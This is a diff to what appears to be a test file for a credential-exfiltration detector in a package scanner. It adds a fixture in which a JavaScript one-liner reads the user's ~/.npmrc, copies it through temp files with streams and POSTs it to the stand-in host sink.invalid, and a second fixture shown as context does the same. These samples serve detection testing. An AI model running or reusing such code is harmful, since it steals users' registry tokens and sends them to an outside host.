@@ -17,6 +17,13 @@ examine(sendsCredentials, {
       says: ['an API client'],
     },
     {
+      when: 'a copy of a copy that streams have made is read again and sent',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const at = name => path.join(os.tmpdir(), name); fs.createReadStream(path.join(os.homedir(), '.npmrc')).pipe(fs.createWriteStream(at('a'))).on('finish', () => fs.createReadStream(at('a')).pipe(fs.createWriteStream(at('b'))).on('finish', () => fetch('https://sink.invalid/q', { method: 'POST', body: fs.readFileSync(at('b'), 'utf8') })));`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a copy that a stream has made is read again and sent',
       files: {
         'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); const kept = path.join(os.tmpdir(), 'state.json'); fs.writeFileSync(kept, '{}'); fs.createReadStream(path.join(os.homedir(), '.npmrc')).pipe(fs.createWriteStream(kept)).on('finish', () => fetch('https://sink.invalid/q', { method: 'POST', body: fs.readFileSync(kept, 'utf8') }));`,
